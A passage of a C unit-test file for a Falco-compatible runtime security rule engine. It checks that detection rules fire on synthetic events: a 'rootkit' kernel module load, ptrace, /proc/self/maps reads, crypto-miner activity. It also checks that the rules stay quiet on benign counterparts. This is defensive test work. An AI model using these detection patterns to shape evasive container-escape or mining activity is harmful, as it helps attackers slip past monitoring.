	  "{\"evt.type\":\"open\",\"proc.name\":\"x\",\"fd.name\":\"/proc/self/maps\"," CT "}" },
	{ "escape.kernel-module",
	  "{\"evt.type\":\"init_module\",\"proc.name\":\"insmod\",\"fd.name\":\"rootkit\"," CT "}",
	  "{\"evt.type\":\"init_module\",\"proc.name\":\"modprobe\",\"fd.name\":\"nf_conntrack\"}" },
	{ "escape.ptrace",
	  "{\"evt.type\":\"ptrace\",\"proc.name\":\"gdb\"," CT "}",
	  "{\"evt.type\":\"ptrace\",\"proc.name\":\"gdb\"}" },
};

static bool event_fires(struct hh_rules *r, const char *json, const char *id, size_t *n_total)
{
	json_error_t je;
	json_t *j = json_loads(json, 0, &je);
	if (!j)
		fail_msg("bad test JSON %s: %s", json, je.text);
	struct hh_event *e = malloc(sizeof(*e));
	char err[256];
	if (hh_event_from_json(j, e, err, sizeof(err)) < 0)
		fail_msg("event %s: %s", json, err);
	json_decref(j);
	bool hit;
	*n_total = run(r, e, id, &hit);
	free(e);
	return hit;
}

static void default_pack(void **state)
{
	(void)state;
	struct hh_rules *r = hh_rules_new();
	assert_int_equal(hh_rules_load_builtin(r), 0);
	hh_rules_compile(r);
	print_errors(r);
	assert_int_equal(hh_rules_n_errors(r), 0);
	size_t ncases = sizeof(pack_cases) / sizeof(pack_cases[0]);
	for (size_t i = 0; i < ncases; i++) {
		size_t n;
		if (!event_fires(r, pack_cases[i].fire, pack_cases[i].id, &n))
			fail_msg("%s did not fire on %s", pack_cases[i].id, pack_cases[i].fire);
		if (event_fires(r, pack_cases[i].benign, pack_cases[i].id, &n))
			fail_msg("%s fired on its benign counterpart %s", pack_cases[i].id, pack_cases[i].benign);
	}
	/* every rule of the pack has a case; severities honor DESIGN.md */
	struct hh_rule_info info;
	for (size_t i = 0; hh_rules_info(r, i, &info); i++) {
		bool covered = false;
		for (size_t k = 0; k < ncases; k++)
			covered |= strcmp(pack_cases[k].id, info.id) == 0;
		if (!covered)
			fail_msg("default rule %s has no test case", info.id);
		bool mitre = false;
		for (size_t t = 0; t < info.n_tags; t++)
			mitre |= info.tags[t][0] == 'T' && info.tags[t][1] >= '0' && info.tags[t][1] <= '9';
		if (!mitre)
			fail_msg("default rule %s has no MITRE tag", info.id);
		bool behavior = !strncmp(info.id, "container.", 10) || !strncmp(info.id, "exec.", 5) ||
				!strncmp(info.id, "dropper.", 8);
		if (behavior && info.severity > HH_SEV_MEDIUM)
			fail_msg("behavior rule %s above medium", info.id);
	}
	/* fully benign events: no finding from any rule */
	static const char *const quiet[] = {
		"{\"evt.type\":\"execve\",\"proc.name\":\"python3\",\"proc.exepath\":\"/usr/bin/python3\",\"proc.cmdline\":\"python3 -m http.server 8080\"," CT "}",
		"{\"evt.type\":\"connect\",\"proc.name\":\"curl\",\"fd.sip\":\"93.184.216.34\",\"fd.sport\":443,\"fd.sip.name\":\"example.com\"," CT "}",
		"{\"evt.type\":\"dns\",\"proc.name\":\"curl\",\"evt.dns.query\":\"deb.debian.org\"," CT "}",
		"{\"evt.type\":\"open\",\"proc.name\":\"cat\",\"fd.name\":\"/proc/sys/vm/nr_hugepages\"," CT "}",
		"{\"evt.type\":\"fpu\",\"proc.name\":\"python3\",\"proc.fpu.switches\":5000,\"proc.fpu.nondefault_switches\":0," CT "}",
		"{\"evt.type\":\"open\",\"proc.name\":\"turbostat\",\"fd.name\":\"/dev/cpu/0/msr\"}",
		"{\"evt.type\":\"open\",\"proc.name\":\"systemd-sysctl\",\"fd.name\":\"/proc/sys/vm/nr_hugepages\",\"evt.is_open_write\":true}",
		"{\"evt.type\":\"execve\",\"proc.name\":\"runc:[2:INIT]\",\"proc.exepath\":\"/memfd:runc_cloned:/proc/self/exe (deleted)\",\"proc.is_exe_from_memfd\":true," CT "}",
	};
	for (size_t i = 0; i < sizeof(quiet) / sizeof(quiet[0]); i++) {
		size_t n;
		event_fires(r, quiet[i], NULL, &n);
		if (n)
			fail_msg("benign event produced %zu finding(s): %s", n, quiet[i]);
	}
	hh_rules_free(r);
}

static void config_disable_per_workload(void **state)
{
	(void)state;
	char path[] = "/tmp/hh-rules-cfg-XXXXXX";
	int fd = mkstemp(path);
	assert_true(fd >= 0);
	const char *cfgtext =
		"rules:\n  disabled: [miner.binary-name]\n"
		"overrides:\n  - match: { namespace: \"mining-lab\" }\n    set: { rules.disabled: [miner.stratum-url] }\n";
	assert_int_equal(write(fd, cfgtext, strlen(cfgtext)), (ssize_t)strlen(cfgtext));
	close(fd);
	struct hh_config cfg;
	char err[512];
	assert_int_equal(hh_config_load(&cfg, path, err, sizeof(err)), 0);
	unlink(path);
	struct hh_rules *r = hh_rules_new();
	assert_int_equal(hh_rules_load_config(r, &cfg), 0);
	struct hh_event e = base_event();
	struct hh_findings out = { 0 };
	hh_rules_eval(r, &e, &cfg, &out);
	bool stratum = false, name = false;
	for (size_t i = 0; i < out.n; i++) {
		stratum |= !strcmp(out.items[i]->rule, "miner.stratum-url");
		name |= !strcmp(out.items[i]->rule, "miner.binary-name");
	}
	hh_findings_clear(&out);
	assert_true(stratum);
	assert_false(name);
	hh_strlcpy(e.workload.pod_namespace, "mining-lab", sizeof(e.workload.pod_namespace));
	hh_rules_eval(r, &e, &cfg, &out);
	for (size_t i = 0; i < out.n; i++)
		assert_string_not_equal(out.items[i]->rule, "miner.stratum-url");
	hh_findings_clear(&out);
	hh_rules_free(r);
	hh_config_free(&cfg);
}

/* The rule of id in r fires on e (and how many findings there were). */
static bool fires(struct hh_rules *r, const struct hh_event *e, const char *id)
{
	bool hit;
	run(r, e, id, &hit);
	return hit;
}

/* What Falco's rule files need: a user file that redefines the macros our
 * pack uses cannot break the pack; Falco fields we fill, fields we cannot
 * (<NA>: comparisons false, != included), system calls we do not trace
 * (the rule loads, inert), text forms of evt.res and evt.arg.flags. */
static void falco_compat(void **state)
{
	(void)state;
	hh_rules_set_proc_root(NULL); /* synthetic events: no /proc lookups */
	static const char y[] =
		/* Falco's own open_write: needs a file descriptor (fd.num >= 0) */
		"- macro: open_write\n"
		"  condition: (evt.type in (open,openat,openat2) and evt.is_open_write=true and fd.typechar='f' and fd.num>=0)\n"
		"- list: user_list\n  items: [a]\n"
		"- macro: never_true\n  condition: (evt.num=0)\n"
		"- rule: Falco write\n  id: f.write\n  desc: d\n  condition: open_write and not never_true\n"
		"  output: \"w %fd.name %user.loginuid %k8smeta.pod.name\"\n  priority: WARNING\n"
		"- rule: Session\n  id: f.sname\n  desc: d\n  condition: evt.type = execve and proc.sname = bash\n"
		"  output: o\n  priority: NOTICE\n"
		"- rule: Not session\n  id: f.nsname\n  desc: d\n  condition: evt.type = execve and proc.sname != bash\n"
		"  output: o\n  priority: NOTICE\n"
		"- rule: Symlink\n  id: f.symlink\n  desc: d\n  condition: evt.type in (symlink, symlinkat)\n"
		"  output: o\n  priority: NOTICE\n"
		"- rule: Trunc\n  id: f.trunc\n  desc: d\n  condition: evt.type = open and evt.arg.flags contains O_TRUNC\n"
		"  output: o\n  priority: NOTICE\n"
		"- rule: Failed\n  id: f.failed\n  desc: d\n  condition: evt.type = connect and evt.res = ECONNREFUSED\n"
		"  output: o\n  priority: NOTICE\n";
	struct hh_rules *r = load(y, true);
	print_errors(r);
	assert_int_equal(hh_rules_n_errors(r), 0);
	/* every built-in rule loaded, and the user's rules too */
	struct hh_rule_info info;
	size_t pack = 0, user = 0;
	bool symlink_inert = false, write_limited = false;
	for (size_t i = 0; hh_rules_info(r, i, &info); i++) {
		assert_true(info.loaded);
		pack += info.builtin;
		user += !info.builtin;
		if (!strcmp(info.id, "f.symlink"))
			symlink_inert = info.inert;
		if (!strcmp(info.id, "f.write"))
			write_limited = strstr(info.limits, "k8smeta.pod.name") != NULL;
	}
	assert_true(pack >= 20);
	assert_int_equal(user, 6);
	assert_true(symlink_inert);
	assert_true(write_limited);

	/* A failed write open of nr_hugepages (read-only /proc/sys in a
	 * container): Falco's open_write is false (fd.num < 0), ours is true
	 * and the pack's rule still fires. */
	struct hh_event e = base_event();
	e.type = HH_EV_OPEN;
	hh_strlcpy(e.path, "/proc/sys/vm/nr_hugepages", sizeof(e.path));
	e.open_flags = 01 | 01000; /* O_WRONLY|O_TRUNC */
	e.ret = -30;               /* EROFS */
	assert_true(fires(r, &e, "miner.hugepages"));
	assert_false(fires(r, &e, "f.write"));
	assert_true(fires(r, &e, "f.trunc"));
	e.ret = 3;
	assert_true(fires(r, &e, "f.write"));

	/* <NA> never matches, not even with != */
	e = base_event();
	assert_false(fires(r, &e, "f.sname"));
	assert_false(fires(r, &e, "f.nsname"));
	assert_false(fires(r, &e, "f.symlink"));
	/* evt.res as Falco writes it */
	e.type = HH_EV_CONNECT;
	e.ret = -111;
	assert_true(fires(r, &e, "f.failed"));
	e.ret = 0;
	assert_false(fires(r, &e, "f.failed"));
	assert_int_equal(eval_text("evt.res = SUCCESS", &e), 1);
	assert_int_equal(eval_text("fd.typechar = 4 and fd.type = ipv4 and fd.connected = true", &e), 1);
	assert_int_equal(eval_text("proc.tty = 0", &e), 0);  /* not available: false */
	assert_int_equal(eval_text("proc.tty != 0", &e), 0);
	assert_int_equal(eval_text("evt.num > 0", &e), 1);
	hh_rules_free(r);
	hh_rules_set_proc_root("/proc");

	/* Live /proc fields for this very process. */
	e = base_event();
	e.pid = getpid();
	e.ppid = getppid();
	e.uid = getuid();
	assert_int_equal(eval_text("proc.cwd exists and proc.pcmdline exists and user.name exists", &e), 1);
	assert_int_equal(eval_text("thread.cap_effective exists", &e), 1);
}

static void benchmark(void **state)
{
	(void)state;
	struct hh_rules *r = hh_rules_new();
	hh_rules_load_builtin(r);
	hh_rules_compile(r);
	struct hh_event e = base_event();
	hh_strlcpy(e.comm, "python3", sizeof(e.comm));
	hh_strlcpy(e.exepath, "/usr/bin/python3", sizeof(e.exepath));
	hh_strlcpy(e.cmdline, "python3 /srv/app/manage.py runserver 0.0.0.0:8000 --noreload --settings=app.settings.prod",
		   sizeof(e.cmdline));
	e.exe_upper_layer = false;
	hh_strlcpy(e.env, "PATH=/usr/bin\nHOME=/root", sizeof(e.env));
	struct hh_event c = e;
	c.type = HH_EV_CONNECT;
	hh_strlcpy(c.sip, "93.184.216.34", sizeof(c.sip));
	c.sport = 443;
	hh_strlcpy(c.sip_name, "example.com", sizeof(c.sip_name));
	const size_t iters = 20000;
	struct hh_findings out = { 0 };
	struct timespec t0, t1;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (size_t i = 0; i < iters; i++) {
		hh_rules_eval(r, (i & 1) ? &c : &e, NULL, &out);
		hh_findings_clear(&out);
	}
	clock_gettime(CLOCK_MONOTONIC, &t1);
	double s = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
	struct hh_rules_stats st;
	hh_rules_stats(r, &st);
	print_message("rules bench: %zu events (benign exec/connect) x %zu rules in %.3f s: %.0f events/s, "
		      "%.0f rule evaluations/s (after evt.type prefilter: %llu evaluations)\n",
		      iters, hh_rules_count(r), s, (double)iters / s, (double)st.evaluations / s, st.evaluations);
	assert_int_equal(st.matches, 0);
	hh_rules_free(r);
}

/* The yaml_doc extension the rule engine relies on: scalar positions. */
static void yaml_scalar_positions(void **state)
{
	(void)state;
	const char *y = "- a: plain value\n"
			"  b: 'single'\n"
			"  c: >\n"
			"    folded\n"
			"  d: 42\n"
			"  e: true\n";
	struct hh_yaml_docs d;
	assert_int_equal(hh_yaml_load_buf(y, strlen(y), "p.yaml", NULL, &d), 0);
	json_t *m = json_array_get(json_array_get(d.docs, 0), 0);
	const struct hh_yaml_line *p = hh_yaml_pos_of(&d, json_object_get(m, "a"));
	assert_non_null(p);
	assert_int_equal(p->line, 1);
	assert_int_equal(p->col, 6);
	assert_int_equal(p->offset, 5);
	assert_int_equal(p->style, HH_YAML_PLAIN);
	p = hh_yaml_pos_of(&d, json_object_get(m, "b"));
	assert_int_equal(p->line, 2);
	assert_int_equal(p->style, HH_YAML_SINGLE_QUOTED);
	assert_int_equal(y[p->offset], '\'');
	p = hh_yaml_pos_of(&d, json_object_get(m, "c"));
	assert_int_equal(p->style, HH_YAML_FOLDED);
	assert_int_equal(y[p->offset], '>');
	p = hh_yaml_pos_of(&d, json_object_get(m, "d"));
	assert_int_equal(p->line, 5);
	assert_null(hh_yaml_pos_of(&d, json_object_get(m, "e"))); /* shared singleton */
	p = hh_yaml_pos_of(&d, m);
	assert_int_equal(p->line, 1);
	assert_int_equal(p->style, HH_YAML_COLLECTION);
	assert_int_equal(hh_yaml_line_of(&d, m), 1);
	hh_yaml_docs_free(&d);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(yaml_scalar_positions),
		cmocka_unit_test(operators),
		cmocka_unit_test(compile_errors),
		cmocka_unit_test(hostile_conditions),
		cmocka_unit_test(lists_macros_append),
		cmocka_unit_test(exceptions),
		cmocka_unit_test(file_errors_with_positions),
		cmocka_unit_test(default_pack),
		cmocka_unit_test(config_disable_per_workload),
		cmocka_unit_test(falco_compat),
		cmocka_unit_test(benchmark),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
